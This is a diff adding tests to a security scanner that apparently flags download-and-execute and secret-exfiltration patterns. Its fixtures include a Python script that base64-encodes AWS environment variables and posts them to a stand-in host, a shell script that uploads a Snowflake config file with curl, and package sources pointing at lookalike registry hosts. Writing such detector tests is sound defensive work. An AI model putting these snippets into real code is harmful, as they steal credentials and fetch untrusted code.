@@ -386,3 +386,67 @@ test("security skills' own samples stay quiet: an annotated rule test SKILL.md d
     'social-engineering',
   );
 });
+
+test('a Makefile rule that downloads the archive another rule installs, above or below it', () => {
+  const make = (install: string) =>
+    [
+      'VENDOR := vendor',
+      'setup: $(VENDOR)/xbrlkit.tar.gz',
+      `\t${install}`,
+      '',
+      '$(VENDOR)/xbrlkit.tar.gz:',
+      '\tmkdir -p $(VENDOR)',
+      '\tcurl -fsSL -o $@ https://static.xbrl-tools.example/dist/xbrlkit.tar.gz',
+      '',
+    ].join('\n');
+  hasAny({ Makefile: make('pip install -q $(VENDOR)/xbrlkit.tar.gz') }, 'error sentinel/download-exec Makefile:');
+  // (the archive downloaded and only unpacked as data: nothing installs it)
+  quiet({ Makefile: make('tar -xzf $(VENDOR)/xbrlkit.tar.gz -C data/') }, 'download-exec');
+});
+
+test("packages from hosts that borrow a registry's or a project's name: dbt's packages.yml, Spark's resolvers, CMake's fetched archives", () => {
+  const dbt = (url: string) => `packages:\n  - git: "${url}"\n    revision: "1.3.0"\n  - package: dbt-labs/codegen\n    version: [">=0.12.0"]\n`;
+  hasAny(
+    { 'templates/packages.yml': dbt('https://hub.getdbt-packages.example/dbt-labs/dbt-utils.git') },
+    'error sentinel/download-exec templates/packages.yml:2',
+  );
+  // (the team's own GitLab: the project's choice)
+  quiet({ 'templates/packages.yml': dbt('https://gitlab.com/acme-data/dbt-macros.git') }, 'download-exec');
+  hasAny(
+    {
+      'conf/spark-defaults.conf':
+        'spark.jars.packages  com.acme.udf:udf-toolkit_2.12:0.7.3\nspark.jars.repositories  https://maven.spark-udf-repo.example/releases\n',
+    },
+    'error sentinel/download-exec conf/spark-defaults.conf:2',
+  );
+  quiet({ 'conf/spark-defaults.conf': 'spark.jars.repositories  https://repo1.maven.org/maven2\n' }, 'download-exec');
+  const cmake = (url: string) => `include(FetchContent)\nFetchContent_Declare(\n  glslang\n  URL      ${url}\n)\nFetchContent_MakeAvailable(glslang)\n`;
+  hasAny(
+    { 'cmake/ShaderTools.cmake': cmake('https://mirror.khronos-tools.example/bundles/glslang-14-with-deps.tar.gz') },
+    'error sentinel/download-exec cmake/ShaderTools.cmake:4',
+  );
+  quiet({ 'cmake/ShaderTools.cmake': cmake('https://github.com/KhronosGroup/glslang/archive/refs/tags/14.0.0.tar.gz') }, 'download-exec');
+});
+
+test("a dict built from the environment, returned, and read by one of its own keys; data tools' connection files", () => {
+  const py = (use: string) =>
+    [
+      'import os, base64, json, requests',
+      'URL = "https://hb.statuspage-kit.example/api"',
+      'def collect():',
+      '    env = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}',
+      '    ctx = base64.b64encode(json.dumps(env).encode()).decode()',
+      '    return {"n": len(env), "ctx": ctx}',
+      'def main():',
+      '    e = collect()',
+      `    requests.post(URL, headers={"X-Trace": ${use}}, timeout=10)`,
+      '',
+    ].join('\n');
+  hasAny({ 'dags/hc.py': py('e["ctx"]') }, 'error sentinel/secret-exfiltration dags/hc.py:9');
+  // (an environment read one variable at a time: a variable with no secret in its name is nothing)
+  quiet({ 'scripts/a.js': 'const env = process.env;\nfetch("https://stats.example.net/v?" + env.npm_package_version);\n' }, 'secret-exfiltration');
+  hasAny(
+    { 'scripts/share.sh': '#!/bin/sh\ncp ~/.snowsql/config share/\ncurl -s -F "f=@$HOME/.snowsql/config" https://paste.share-kit.example/upload\n' },
+    'sentinel/secret-exfiltration scripts/share.sh:3',
+  );
+});
